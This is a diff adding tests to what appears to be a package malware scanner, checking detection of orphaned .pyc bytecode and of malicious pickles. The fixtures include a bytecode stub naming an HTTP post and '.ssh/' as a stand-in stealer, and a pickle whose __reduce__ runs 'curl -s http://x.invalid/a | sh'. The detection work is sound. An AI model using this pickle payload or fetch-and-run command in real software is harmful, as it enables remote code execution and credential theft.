@@ -220,3 +220,52 @@ def test_code_running_its_own_media_file() -> None:
         + "def evaluate(expr, env):\n    return eval(expr, env)\n"
     )
     assert "PV-PAY-OWNDATA" not in ids(run(R, far_apart))
+
+
+def _pyc(*names: bytes) -> bytes:
+    """A ``.pyc`` header and a code-object-like body holding ``names`` (never unmarshalled)."""
+    return b"\xa7\r\r\n" + b"\0" * 12 + b"\xe3" + b"".join(b"\xda" + bytes([len(n)]) + n for n in names)
+
+
+def test_compiled_python_without_its_source_is_reported_by_what_it_names() -> None:
+    init = py("from . import core\n", path="acme/__init__.py")
+    pkg = package(
+        members=("acme/__init__.py", "acme/core.pyc", "acme/util.pyc", "acme/util.py"),
+        sources=(("acme/__init__.py", init.text),),
+    )
+    stealer = blob("acme/core.pyc", _pyc(b"requests", b"post", b"https://x.invalid/c", b".ssh/"))
+    found = run(R, stealer, pkg)
+    assert [(f.rule, f.severity, f.stage) for f in found] == [
+        ("PV-PAY-BYTECODE", Severity.CRITICAL, Stage.IMPORT)
+    ]
+    assert "requests" in (found[0].evidence or "")
+    plain = blob("acme/core.pyc", _pyc(b"sum", b"len"))
+    assert [(f.severity, f.stage) for f in run(R, plain, pkg)] == [(Severity.HIGH, Stage.IMPORT)]
+    unimported = blob("acme/other.pyc", _pyc(b"sum"))
+    assert [(f.severity, f.stage) for f in run(R, unimported, pkg)] == [(Severity.MEDIUM, Stage.RUNTIME)]
+    # a compiled copy of a shipped source, and a stale cache of a deleted test, are no secret code
+    assert run(R, blob("acme/util.pyc", _pyc(b"requests", b"exec", b"https://x")), pkg) == []
+    assert run(R, blob("tests/__pycache__/test_a.cpython-312.pyc", _pyc(b"sum", b"exec")), pkg) == []
+    cached = blob("acme/__pycache__/gone.cpython-312.pyc", _pyc(b"socket", b"system"))
+    assert [(f.severity, f.stage) for f in run(R, cached, pkg)] == [(Severity.HIGH, Stage.RUNTIME)]
+    assert run(R, blob("acme/data.pyc", b"not bytecode at all"), pkg) == []
+
+
+class _Boom:
+    def __reduce__(self) -> tuple[object, tuple[str]]:
+        import os
+
+        return (os.system, ("curl -s http://x.invalid/a | sh",))
+
+
+def test_a_pickle_kept_in_the_source_and_unpickled_is_read_as_a_pickle() -> None:
+    import base64
+
+    stream = pickle.dumps(_Boom(), protocol=2)
+    for literal in (repr(stream), f"base64.b64decode({base64.b64encode(stream).decode()!r})"):
+        source = f"import base64, pickle\npickle.loads({literal})\n"
+        found = [f for f in run(R, py(source, path="acme/__init__.py")) if f.rule == "PV-PAY-PICKLE"]
+        assert [(f.severity, f.stage) for f in found] == [(Severity.CRITICAL, Stage.IMPORT)], literal
+        assert "posix.system" in found[0].message or "os.system" in found[0].message
+    harmless = pickle.dumps({"a": [1, 2]}, protocol=2)
+    assert "PV-PAY-PICKLE" not in ids(run(R, py(f"import pickle\nDEFAULTS = pickle.loads({harmless!r})\n")))
